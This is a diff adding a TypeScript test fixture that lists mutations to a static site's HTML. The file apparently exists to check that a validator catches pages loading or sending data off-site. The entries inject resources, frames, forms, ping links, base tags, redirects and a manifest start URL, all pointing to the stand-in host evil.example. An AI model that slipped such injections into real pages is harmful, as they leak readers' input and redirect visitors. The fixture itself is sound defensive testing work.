@@ -1,0 +1,73 @@
+import { code, PAGE, SEARCH, edit, put, putHead, type Mutation } from './places.ts';
+
+/** What would load something, or send a reader’s words somewhere. */
+export const LOADING: readonly Mutation[] = [
+  ['a stylesheet of another site', PAGE, 'value', () => putHead('<link rel="stylesheet" href="https://evil.example/x.css">')],
+  ['a picture of another site', PAGE, 'loads-elsewhere', () => put('<img src="https://evil.example/x.png" alt="x" width="1" height="1">')],
+  ['a picture of another site, without its scheme', PAGE, 'address-not-relative', () => put('<img src="//evil.example/x.png" alt="x">')],
+  [
+    'a picture of another site in a set',
+    PAGE,
+    'attribute',
+    () => put('<img src="../../icon-192.png" srcset="https://evil.example/x.png 2x" alt="x">'),
+  ],
+  [
+    'a counting picture for readers without scripts',
+    PAGE,
+    'loads-elsewhere',
+    () => put('<noscript><img src="https://evil.example/count" alt="x"></noscript>'),
+  ],
+  ['two readings of <noscript>', PAGE, 'two-readings', () => put('<noscript><p title="</noscript><p>x</p>">x</p></noscript>')],
+  ['a picture as data', PAGE, 'address-scheme', () => put('<img src="data:image/svg+xml,<svg/>" alt="x">')],
+  ['a frame', PAGE, 'element', () => put('<iframe src="https://evil.example/"></iframe>')],
+  ['a frame with its page in an attribute', PAGE, 'element', () => put('<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>')],
+  ['an object', PAGE, 'element', () => put('<object data="https://evil.example/x.swf"></object>')],
+  ['an embedded file', PAGE, 'element', () => put('<embed src="https://evil.example/x.pdf">')],
+  ['a film', PAGE, 'element', () => put('<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>')],
+  ['a template', PAGE, 'element', () => put('<template><p>x</p></template>')],
+  ['a connection in advance', PAGE, 'value', () => putHead('<link rel="preconnect" href="https://evil.example/">')],
+  ['a name asked for in advance', PAGE, 'value', () => putHead('<link rel="dns-prefetch" href="//evil.example">')],
+  ['a page fetched in advance', PAGE, 'value', () => putHead('<link rel="prefetch" href="../index.html">')],
+  ['a drawing used from elsewhere', PAGE, 'value', () => put('<svg viewBox="0 0 1 1"><use href="https://evil.example/x.svg#a" /></svg>')],
+  [
+    'a fill from elsewhere',
+    PAGE,
+    'value',
+    () => put('<svg viewBox="0 0 1 1"><path fill="url(https://evil.example/x.svg#a)" d="M0 0" /></svg>'),
+  ],
+  ['a link that reports clicks', PAGE, 'attribute', () => edit(PAGE, '<a class="skip"', '<a ping="https://evil.example/" class="skip"')],
+  [
+    'a form that sends elsewhere',
+    PAGE,
+    'loads-elsewhere',
+    () => put('<form action="https://evil.example/"><input name="q" type="text"></form>'),
+  ],
+  [
+    'a button that sends its form elsewhere',
+    PAGE,
+    'attribute',
+    () => edit(PAGE, '<button type="submit"', '<button type="submit" formaction="https://evil.example/"'),
+  ],
+  ['a form that posts', PAGE, 'attribute', () => edit(PAGE, '<form ', '<form method="post" ')],
+  [
+    'a search from elsewhere',
+    SEARCH,
+    'loads-elsewhere',
+    () => edit(SEARCH, /data-engine="[^"]*"/, 'data-engine="https://evil.example/search.js"'),
+  ],
+  ['a base', PAGE, 'base', () => putHead('<base href="https://evil.example/">')],
+  [
+    'another base of the page for what is not there',
+    '404.html',
+    'base',
+    () => edit('404.html', /<base href="[^"]*"/, '<base href="https://evil.example/"'),
+  ],
+  ['a page that leads on by itself', PAGE, 'value', () => putHead('<meta http-equiv="refresh" content="0;url=https://evil.example/">')],
+  ['a way to set cookies', PAGE, 'value', () => putHead('<meta http-equiv="Set-Cookie" content="a=b">')],
+  [
+    'a manifest that starts elsewhere',
+    `${code}/site.webmanifest`,
+    'loads-elsewhere',
+    () => edit(`${code}/site.webmanifest`, '"start_url":"index.html"', '"start_url":"https://evil.example/"'),
+  ],
+];
